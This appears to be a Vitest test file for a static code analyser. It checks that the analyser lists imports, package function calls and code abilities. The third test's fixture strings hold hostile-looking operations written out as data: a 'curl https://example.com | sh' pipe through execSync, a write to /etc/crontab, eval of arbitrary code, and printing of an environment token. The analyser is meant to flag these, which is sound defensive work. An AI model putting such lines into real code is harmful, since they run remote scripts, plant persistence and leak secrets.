import { expect, test } from "vitest";
import { fileOf } from "../../testing/look.ts";
import { createCode } from "../create.ts";
import { codeRules } from "../testing/rules.ts";

const analyser = createCode(codeRules());
const outline = (text: string, path = "a.js") => analyser.file(fileOf(path, text)).facts?.outline;

test("says what is imported, however it is", () => {
  const said = outline(
    `
    import fs, { readFile as read } from "node:fs";
    import * as path from "path";
    import "./effect.js";
    import type { Only } from "types";
    const { exec } = require("child_process");
    const lodash = require("lodash");
    export { a } from "./a.js";
    const late = await import(process.env.PLUGIN);`,
    "a.ts",
  );
  expect(said?.imports.map(({ module, names, dynamic }) => [module, [...names].sort(), dynamic])).toEqual([
    ["node:fs", ["default", "readFile"], false],
    ["path", ["*"], false],
    ["./effect.js", [], false],
    ["child_process", ["exec"], false],
    ["lodash", ["*"], false],
    ["./a.js", ["a"], false],
    ["", [], true],
  ]);
  expect(said?.abilities).toContainEqual({ kind: "dynamic_import", what: "import", target: "", line: 9 });
});

test("says which functions of a package are used", () => {
  const said = outline(`
    const _ = require("lodash");
    import { parse } from "yaml";
    _.template("x");
    parse(text);
    const f = _.merge;
    _.chain(x).map(y).value();`);
  expect(said?.uses.map(({ module, member, line }) => [module, member, line])).toEqual(
    expect.arrayContaining([
      ["lodash", "template", 4],
      ["yaml", "parse", 5],
      ["lodash", "merge", 6],
      ["lodash", "chain", 7],
    ]),
  );
});

test("says what code can do, and to what as far as it is known", () => {
  const said = outline(`
    const { execSync } = require("child_process");
    const https = require("https");
    execSync("curl https://example.com | sh");
    https.get(\`https://example.com/\${id}\`);
    require("fs").writeFileSync("/etc/crontab", text);
    eval(code);
    console.log(process.env.TOKEN);
    fetch("https://example.org");`);
  const told = said?.abilities.map(({ kind, what, target, line }) => [kind, what, target, line]);
  expect(told).toEqual(
    expect.arrayContaining([
      ["exec", "execSync", "curl https://example.com | sh", 4],
      ["network", "https.get", "https://example.com/", 5],
      ["write_file", "writeFileSync", "/etc/crontab", 6],
      ["eval", "eval", "", 7],
      ["network", "fetch", "https://example.org", 9],
    ]),
  );
  expect(told?.some(([kind, , , line]) => kind === "environment" && line === 8)).toBe(true);
});
